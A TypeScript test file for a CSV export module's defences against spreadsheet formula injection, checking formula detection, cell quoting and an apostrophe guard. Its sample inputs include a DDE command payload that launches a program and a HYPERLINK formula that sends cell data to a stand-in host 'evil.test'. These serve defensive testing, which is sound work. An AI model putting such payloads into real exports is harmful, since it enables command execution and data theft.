import assert from 'node:assert/strict'
import { test } from 'node:test'
import { csvCell, isFormula } from './csv.ts'

test('a text that a spreadsheet would compute is told from one that it would not', () => {
  const formulas = [
    ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\nx', '\tx', '  =1', '"=1', "'=1", '`-1'],
    ...['\u00a0=1', '\ufeff=1', '\u200b+1', '\u202e=1', '“=1”', ' \u0001 @x', '"" \'=1', '«=1'],
    ...['\uff1d1', '\uff0b1', '\uff0d1', '\uff20x', '\u22121', '\ufe661', '=', '- a list', '@'],
    `=HYPERLINK("http://evil.test?x="&A1,"click")`,
    `=cmd|' /C calc'!A0`,
  ]
  for (const text of formulas) assert.equal(isFormula(text), true, JSON.stringify(text))
  const texts = ['', 'a', ' a', '1', '1-2', 'a=b', '"quoted"', '日本', '#REF', '(=1)', '\u2014 so']
  for (const text of texts) assert.equal(isFormula(text), false, JSON.stringify(text))
})

test('looking for formulas takes no longer the more quotes and spaces there are', () => {
  assert.equal(isFormula(`${' "'.repeat(500_000)}x`), false)
})

test('texts are quoted, numbers and truths are not, and what is not there is empty', () => {
  assert.equal(csvCell('say "hi",\r\nyou', 'text', true), '"say ""hi"",\r\nyou"')
  assert.equal(csvCell('', 'text', true), '""')
  assert.equal(csvCell(null, 'text', true), '')
  assert.equal(csvCell(undefined, 'integer', true), '')
  assert.equal(csvCell(-5, 'integer', true), '-5')
  assert.equal(csvCell(-0.25, 'double', true), '-0.25')
  assert.equal(csvCell(Number.NaN, 'double', true), '')
  assert.equal(csvCell(true, 'boolean', true), 'true')
  assert.equal(csvCell(0, 'time', true), '1970-01-01T00:00:00.000Z')
  assert.equal(csvCell(9e15, 'time', true), '')
  assert.equal(csvCell([['a', '=b']], 'json', true), '"[[""a"",""=b""]]"')
  assert.equal(csvCell('-5', 'integer', true), `"'-5"`)
})

test('the guard is an apostrophe, and can be left out', () => {
  assert.equal(csvCell('=1+1', 'text', true), `"'=1+1"`)
  assert.equal(csvCell('=1+1', 'text', false), '"=1+1"')
  assert.equal(csvCell('\0=1', 'text', true), '"\ufffd=1"')
})
